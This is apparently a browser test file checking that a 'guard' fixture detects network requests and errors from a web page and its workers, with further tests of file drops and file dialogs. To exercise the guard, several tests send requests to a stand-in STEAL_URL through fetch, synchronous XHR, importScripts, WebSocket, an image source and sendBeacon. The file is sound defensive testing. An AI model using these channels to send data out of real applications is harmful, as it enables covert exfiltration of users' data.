import { join } from 'node:path';
import { dropFiles, openApp, pickFiles } from '../app.ts';
import { FILES, STEAL_URL } from '../data/files.ts';
import { expect, test } from '../fixtures.ts';

test.use({ root: join(import.meta.dirname, 'site') });

const FROM_WORKER = {
  'a fetch': `fetch('${STEAL_URL}').catch(() => postMessage('done'))`,
  'a synchronous request': `const request = new XMLHttpRequest(); request.open('GET', '${STEAL_URL}', false); try { request.send() } catch {} postMessage('done')`,
  'an imported script': `try { importScripts('${STEAL_URL}') } catch {} postMessage('done')`,
  'a socket': `new WebSocket('${STEAL_URL.replace('http', 'ws')}').onerror = () => postMessage('done')`,
};

for (const [name, code] of Object.entries(FROM_WORKER)) {
  test(`the guard sees ${name} from a blob worker`, async ({ page, guard }) => {
    await openApp(page);
    await page.evaluate(async (source) => {
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      await new Promise((done) => {
        worker.addEventListener('message', done);
      });
    }, code);
    await expect.poll(() => guard.takeProblems().join('\n')).toContain('network: ');
  });
}

test('the guard sees an image and a beacon of the page', async ({ page, guard }) => {
  await openApp(page);
  const problems: string[] = [];
  await page.evaluate((url) => {
    new Image().src = `${url}&image`;
    navigator.sendBeacon(`${url}&beacon`);
  }, STEAL_URL);
  const seen = (): string => {
    problems.push(...guard.takeProblems());
    return problems.join('\n');
  };
  await expect.poll(seen).toMatch(/network: .*image/);
  await expect.poll(seen).toMatch(/network: .*beacon/);
});

test('the guard sees errors of the page and of its workers', async ({ page, guard }) => {
  await openApp(page);
  const problems: string[] = [];
  await page.evaluate(() => {
    console.error('from the page');
    setTimeout(() => {
      throw new Error('uncaught in the page');
    });
    const source = "console.error('from a worker'); throw new Error('uncaught in a worker')";
    void new Worker(URL.createObjectURL(new Blob([source])));
  });
  const seen = (): string => {
    problems.push(...guard.takeProblems());
    return problems.join('\n');
  };
  for (const words of ['from the page', 'uncaught in the page', 'from a worker', 'uncaught in a worker']) {
    await expect.poll(seen).toContain(words);
  }
});

test.describe('without the test taking the problem', () => {
  test.fail();
  test('the guard fails the test', async ({ page }) => {
    await openApp(page);
    await page.evaluate(async (url) => {
      await fetch(url).catch(() => undefined);
    }, STEAL_URL);
  });
});

test('a drop is a trusted one of files and folders', async ({ page }) => {
  await openApp(page);
  await dropFiles(page, [FILES.exported, FILES.csv, { name: "odd name's.json", bytes: '{}' }]);
  const sizes = [['exported', 0], ['results.csv', 150], ["odd name's.json", 2]];
  await expect(page.locator('output')).toHaveText(JSON.stringify({ trusted: true, folders: [true, false, false], sizes }));
});

test('a dialog gives the files picked', async ({ page }) => {
  await openApp(page);
  await pickFiles(page, page.getByLabel('Files'), [FILES.csv, FILES.json]);
  await expect(page.locator('output')).toHaveText('[["results.csv",150],["result.json",202]]');
});
